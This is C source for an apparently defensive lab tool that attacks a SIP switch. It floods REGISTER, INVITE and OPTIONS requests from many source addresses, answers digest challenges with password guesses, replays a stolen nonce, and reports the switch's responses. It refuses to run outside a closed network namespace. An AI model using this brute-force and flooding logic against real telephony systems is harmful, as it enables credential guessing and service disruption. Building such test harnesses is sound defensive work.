/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * The attacker of the lab: floods of REGISTER, INVITE and OPTIONS from many sources, with real answers to the
 * switch's challenges; with the right password it is a phone. It counts what the switch answered, for that is
 * what an attacker learns, and prints it as JSON. plan.h has its options.
 *
 * It works in a closed network namespace alone, towards private addresses, and ends after ten minutes or
 * 20 million requests, whatever it is told.
 */
#include <inttypes.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/random.h>
#include <time.h>

#include "door.h"
#include "request.h"
#include "sip/credentials.h"
#include "sip/message.h"
#include "sip/via.h"

#define SECOND INT64_C(1000000000)
#define WINDOW 128               /* requests under way at full speed */
#define STALL (SECOND / 50)      /* no answer for so long: those under way are lost */
#define ASK_AGAIN (SECOND / 4)   /* for a challenge that did not come */
#define STOLEN_FOR (20 * SECOND) /* a nonce's use; switches take them for 30 s */
#define GUESS (UINT64_C(1) << 63)
#define SEQUENCE_BITS 40

struct source {
    struct address address;
    struct challenge challenge;
    int64_t asked_ns, last_ns; /* for a challenge; the last answer to a guess */
    uint32_t cseq, asked, challenged, guesses, answered, accepted;
};

struct attack {
    struct plan plan;
    struct door *door;
    struct source *sources; /* n, and the thief */
    struct buf out;
    uint32_t salt;
    uint8_t *heard; /* a bit a sequence number: answers that came twice are one */
    uint64_t heard_n, sequence;
    uint64_t turn, guesses, asked, challenged, answered, accepted, lost;
    uint64_t statuses[7]; /* of answers to guesses, by their hundred */
    int64_t start, last_answer, last_any;
    uint64_t under_way;
};

static int64_t now_ns(void)
{
    struct timespec t;

    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec * SECOND + t.tv_nsec;
}

/* A namespace that leads nowhere else. */
static bool closed_in(void)
{
    char line[256];
    bool way_out = false;
    FILE *routes = fopen("/proc/self/net/route", "re");

    if (!routes)
        return false;
    while (fgets(line, sizeof(line), routes)) {
        unsigned to, gateway;

        if (sscanf(line, "%*s %x %x", &to, &gateway) == 2 && to == 0)
            way_out = true;
    }
    fclose(routes);
    return !way_out;
}

static bool send_request(struct attack *a, unsigned i, bool guess, const struct challenge *answer,
                         struct span account)
{
    struct source *s = &a->sources[i];
    char password[32];
    bool right = a->plan.password && s->guesses >= a->plan.mistakes;

    snprintf(password, sizeof(password), "guess-%" PRIu64, a->guesses);
    request_write(&a->out, &(struct request){.plan = &a->plan,
                                             .from = s->address,
                                             .account = account,
                                             .salt = a->salt,
                                             .id = (guess ? GUESS : 0) |
                                                   (uint64_t)i << SEQUENCE_BITS | a->sequence,
                                             .cseq = ++s->cseq,
                                             .dialog = i,
                                             .challenge = answer,
                                             .password = right ? a->plan.password : password});
    a->sequence++;
    if (!door_send(a->door, i, &s->address, buf_span(&a->out))) {
        a->lost++;
        return false;
    }
    return true;
}

static void ask(struct attack *a, unsigned i, struct span account, int64_t now)
{
    a->sources[i].asked_ns = now;
    a->sources[i].asked++;
    a->asked++;
    send_request(a, i, false, NULL, account);
}

/* What the source answers with; NULL: it must be asked for, and `from` says by whom. */
static struct challenge *answer_of(struct attack *a, unsigned i, int64_t now, unsigned *from)
{
    struct source *s = &a->sources[i];

    *from = i;
    if (a->plan.credentials == PLAN_STOLEN) {
        *from = a->plan.n;
        s = &a->sources[a->plan.n];
        if (s->challenge.known && now - s->asked_ns > STOLEN_FOR)
            s->challenge.known = false;
    } else if (a->plan.credentials == PLAN_INVENTED && !s->challenge.known) {
        s->challenge = (struct challenge){.known = true, .qop = true};
        snprintf(s->challenge.realm, sizeof(s->challenge.realm), "asterisk");
        snprintf(s->challenge.nonce, sizeof(s->challenge.nonce), "1795520000/%032x", i);
    }
    return s->challenge.known ? &s->challenge : NULL;
}

/* One request. False: everybody waits for a challenge. */
static bool strike(struct attack *a, int64_t now)
{
    char name[256];
    struct span account = {name, plan_account(&a->plan, a->guesses, name, sizeof(name))};

    for (unsigned tries = 0; tries < a->plan.n && tries < 4096; tries++) {
        unsigned i = (unsigned)(a->turn++ % a->plan.n), whom = i;
        bool none = a->plan.credentials == PLAN_NONE;
        struct challenge *answer = none ? NULL : answer_of(a, i, now, &whom);

        if (!none && !answer) {
            if (a->sources[whom].asked_ns && now - a->sources[whom].asked_ns < ASK_AGAIN)
                continue;
            ask(a, whom, account, now);
            return true;
        }
        send_request(a, i, true, answer, account);
        if (answer) {
            answer->used++;
            answer->known = !a->plan.fresh;
        }
        if (a->plan.fresh)
            a->sources[i].asked_ns = 0;
        a->sources[i].guesses++;
        a->guesses++;
        a->under_way++;
        return true;
    }
    return false;
}

static void copy(char *to, size_t size, struct span s)
{
    snprintf(to, size, "%.*s", SPAN_FMT(s));
}

/* A challenge of that algorithm; of several the first. */
static bool find_challenge(const struct sip_message *m, enum sip_header header, bool sha256,
                           struct credentials *out)
{
    struct sip_values values = sip_values(m, header);
    struct span line;

    while (sip_values_line(&values, &line)) {
        while (credentials_next(out, &line) == 0) {
            struct span algorithm = out->field[DIGEST_ALGORITHM];

            if (out->digest && (sha256 ? span_eq_nocase(algorithm, SPAN("SHA-256"))
                                       : !algorithm.p || span_eq_nocase(algorithm, SPAN("MD5"))))
                return true;
        }
    }
    return false;
}

static void take_challenge(const struct attack *a, struct source *s, const struct sip_message *m)
{
    bool proxy = sip_message_count(m, SIP_H_PROXY_AUTHENTICATE);
    struct credentials c;

    if (!find_challenge(m, proxy ? SIP_H_PROXY_AUTHENTICATE : SIP_H_WWW_AUTHENTICATE,
                        a->plan.sha256, &c))
        return;
    s->challenge = (struct challenge){.known = true, .proxy = proxy, .qop = c.field[DIGEST_QOP].p};
    copy(s->challenge.realm, sizeof(s->challenge.realm), c.field[DIGEST_REALM]);
    copy(s->challenge.nonce, sizeof(s->challenge.nonce), c.field[DIGEST_NONCE]);
    copy(s->challenge.opaque, sizeof(s->challenge.opaque), c.field[DIGEST_OPAQUE]);
}

/* A refused INVITE is sent again until it is acknowledged. */
static void acknowledge(struct attack *a, const struct sip_message *m, unsigned i, uint64_t id)
{
    struct span to = sip_message_get(m, SIP_H_TO), name = SPAN(";tag=");
    const char *tag = to.n ? memmem(to.p, to.n, name.p, name.n) : NULL;
    struct span account = SPAN("");

    if (tag) {
        to = span_skip(to, (size_t)(tag - to.p) + name.n);
        to = span_cut(to, ';', &(struct span){0});
    } else {
        to = (struct span){NULL, 0};
    }
    request_write(&a->out, &(struct request){.plan = &a->plan,
                                             .from = a->sources[i].address,
                                             .account = account,
                                             .salt = a->salt,
                                             .id = id,
                                             .cseq = m->cseq,
                                             .dialog = i,
                                             .to_tag = to,
                                             .ack = true});
    door_send(a->door, i, &a->sources[i].address, buf_span(&a->out));
}

static void count_answer(struct attack *a, struct source *s, const struct sip_message *m,
                         bool guess)
{
    bool challenged = m->status == 401 || m->status == 407;
    int64_t now = now_ns();

    a->last_any = now;
    if (!guess) {
        s->challenged += challenged;
        a->challenged += challenged;
        return;
    }
    a->under_way -= a->under_way > 0;
    a->last_answer = s->last_ns = now;
    a->statuses[m->status / 100]++;
    a->answered++;
    s->answered++;
    if (m->status < 300) {
        a->accepted++;
        s->accepted++;
    }
}

static void heard(void *context, struct span bytes)
{
    struct attack *a = context;
    struct sip_message m;
    struct sip_values values;
    struct span value;
    struct via via;
    uint64_t id, sequence;
    unsigned i;

    if (sip_message_read(&m, bytes) != 0 || m.request || m.status < 200)
        return;
    values = sip_values(&m, SIP_H_VIA);
    if (!sip_values_next(&values, &value) || via_parse(&via, value) != 0 ||
        !request_id(via.branch, a->salt, &id))
        return;
    i = (unsigned)((id & ~GUESS) >> SEQUENCE_BITS);
    sequence = id & ((UINT64_C(1) << SEQUENCE_BITS) - 1);
    if (i > a->plan.n || sequence >= a->sequence)
        return;
    if (a->plan.method == PLAN_INVITE)
        acknowledge(a, &m, i, id);
    if (sequence < a->heard_n) {
        if (a->heard[sequence / 8] >> sequence % 8 & 1)
            return;
        a->heard[sequence / 8] |= (uint8_t)(1 << sequence % 8);
    }
    count_answer(a, &a->sources[i], &m, id & GUESS);
    if ((m.status == 401 || m.status == 407) && !((id & GUESS) && a->plan.fresh) &&
        a->plan.credentials != PLAN_INVENTED)
        take_challenge(a, &a->sources[i], &m);
}

static bool over(const struct attack *a, int64_t now)
{
    int64_t quiet = a->last_any > a->start ? a->last_any : a->start;

    return a->guesses >= a->plan.count || now - a->start > (int64_t)(a->plan.seconds * SECOND) ||
           (a->plan.silence > 0 && now - quiet > (int64_t)(a->plan.silence * SECOND));
}

/* A request each 1/rate seconds, made good when we come late, but not for more than 50 ms. */
static void at_rate(struct attack *a)
{
    double gap = (double)SECOND / a->plan.rate;
    double due = (double)a->start;

    for (int64_t now = a->start; !over(a, now); now = now_ns()) {
        while (due <= (double)now && !over(a, now)) {
            due += gap;
            if (!strike(a, now))
                break;
        }
        if (due < (double)now - 5e7)
            due = (double)now - 5e7;
        door_listen(a->door, (int64_t)due - now < SECOND / 100 ? (int64_t)due - now : SECOND / 100,
                    heard, a);
    }
}

static void at_full_speed(struct attack *a)
{
    int64_t moved = a->start;

    for (int64_t now = a->start; !over(a, now); now = now_ns()) {
        uint64_t before = a->under_way;

        if (before >= WINDOW || !strike(a, now)) {
            door_listen(a->door, SECOND / 1000, heard, a);
            if (a->under_way < before)
                moved = now;
            else if (now - moved > STALL)
                a->under_way = 0;
        } else {
            if (before == 0)
                moved = now;
            if (a->guesses % 8 == 0)
                door_listen(a->door, 0, heard, a);
        }
    }
}

static void print_source(const struct attack *a, const struct source *s)
{
    char text[ADDRESS_TEXT_MAX];

    printf("{\"address\": \"%s\", \"guesses\": %u, \"answered\": %u, \"accepted\": %u, "
           "\"asked\": %u, \"challenged\": %u, \"last_answer_ms\": %.1f}",
           address_ip_text(&s->address, text), s->guesses, s->answered, s->accepted, s->asked,
           s->challenged, s->last_ns ? (double)(s->last_ns - a->start) / 1e6 : -1.0);
}

static void print(const struct attack *a, double seconds)
{
    uint64_t beyond = 0;
    unsigned most = 0;

    for (unsigned i = 0; i < a->plan.n; i++) {
        unsigned answered = a->sources[i].answered;

        beyond += answered > a->plan.threshold ? answered - a->plan.threshold : 0;
        most = answered > most ? answered : most;
    }
    printf("{\"guesses\": %" PRIu64 ", \"answered\": %" PRIu64 ", \"accepted\": %" PRIu64
           ", \"asked\": %" PRIu64 ", \"challenged\": %" PRIu64 ", \"lost\": %" PRIu64
           ", \"threshold\": %u, \"beyond\": %" PRIu64 ", \"most\": %u, \"seconds\": %.3f, "
           "\"last_answer_ms\": %.1f, \"refused\": {\"3\": %" PRIu64 ", \"4\": %" PRIu64
           ", \"5\": %" PRIu64 ", \"6\": %" PRIu64 "}, \"sources\": [",
           a->guesses, a->answered, a->accepted, a->asked, a->challenged, a->lost,
           a->plan.threshold, beyond, most, seconds,
           a->last_answer ? (double)(a->last_answer - a->start) / 1e6 : -1.0, a->statuses[3],
           a->statuses[4], a->statuses[5], a->statuses[6]);
    for (unsigned i = 0; i < a->plan.n && i < a->plan.each; i++) {
        if (i)
            printf(",\n ");
        print_source(a, &a->sources[i]);
    }
    printf("]}\n");
}

static bool prepare(struct attack *a)
{
    const struct plan *plan = &a->plan;

    a->heard_n = 2 * plan->count + (UINT64_C(1) << 20);
    a->heard = calloc(a->heard_n / 8 + 1, 1);
    a->sources = calloc((size_t)plan->n + 1, sizeof(*a->sources));
    a->door = door_open(&plan->to, plan->port, plan->tcp ? plan->n : 0);
    if (getrandom(&a->salt, sizeof(a->salt), 0) != sizeof(a->salt) || !a->heard || !a->sources ||
        !a->door) {
        perror("attack: no socket, or no memory");
        return false;
    }
    for (unsigned i = 0; i < plan->n; i++)
        a->sources[i].address = plan_source(plan, i);
    a->sources[plan->n].address = plan->thief;
    a->sources[plan->n].address.port = plan->port;
    return true;
}

int main(int argc, char **argv)
{
    struct attack a = {0};
    int64_t end;
    bool ready;

    if (!plan_read(&a.plan, argc, argv))
        return 2;
    if (!closed_in()) {
        fputs("attack: this network leads elsewhere; it works in a closed namespace alone\n",
              stderr);
        return 2;
    }
    ready = prepare(&a);
    if (ready) {
        a.start = now_ns();
        if (a.plan.rate > 0)
            at_rate(&a);
        else
            at_full_speed(&a);
        end = now_ns();
        while (a.under_way && now_ns() - end < (int64_t)(a.plan.linger * SECOND))
            door_listen(a.door, SECOND / 40, heard, &a);
        print(&a, (double)(end - a.start) / 1e9);
    }
    door_close(a.door);
    free(a.sources);
    free(a.heard);
    buf_free(&a.out);
    plan_free(&a.plan);
    return ready ? 0 : 1;
}
